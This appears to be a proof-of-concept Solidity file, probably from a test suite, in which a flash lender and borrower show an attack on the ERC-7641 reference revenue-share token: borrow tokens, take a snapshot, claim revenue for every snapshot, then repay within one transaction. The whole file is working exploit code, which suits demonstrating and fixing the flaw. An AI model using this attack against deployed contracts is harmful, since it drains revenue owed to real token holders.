// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {RevenueShareToken} from "../../../../contracts/src/token/RevenueShareToken.sol";

/// @notice Lends its tokens inside one transaction.
contract FlashLender {
    RevenueShareToken private immutable _token;

    constructor(RevenueShareToken token) {
        _token = token;
    }

    function lend(FlashBorrower borrower, uint256 amount) external {
        uint256 before = _token.balanceOf(address(this));
        _token.transfer(address(borrower), amount);
        borrower.use(amount);
        require(_token.balanceOf(address(this)) == before, "not repaid");
    }
}

/// @notice The attack on the reference implementation of ERC-7641: borrow, snapshot, claim, repay.
contract FlashBorrower {
    RevenueShareToken private immutable _token;

    constructor(RevenueShareToken token) {
        _token = token;
    }

    receive() external payable {}

    function use(uint256 amount) external {
        uint256 id = _token.snapshot();
        for (uint256 i = 0; i <= id + 1; i++) {
            try _token.claim(i) {} catch {}
        }
        try _token.claimAll() {} catch {}
        _token.transfer(msg.sender, amount);
    }
}
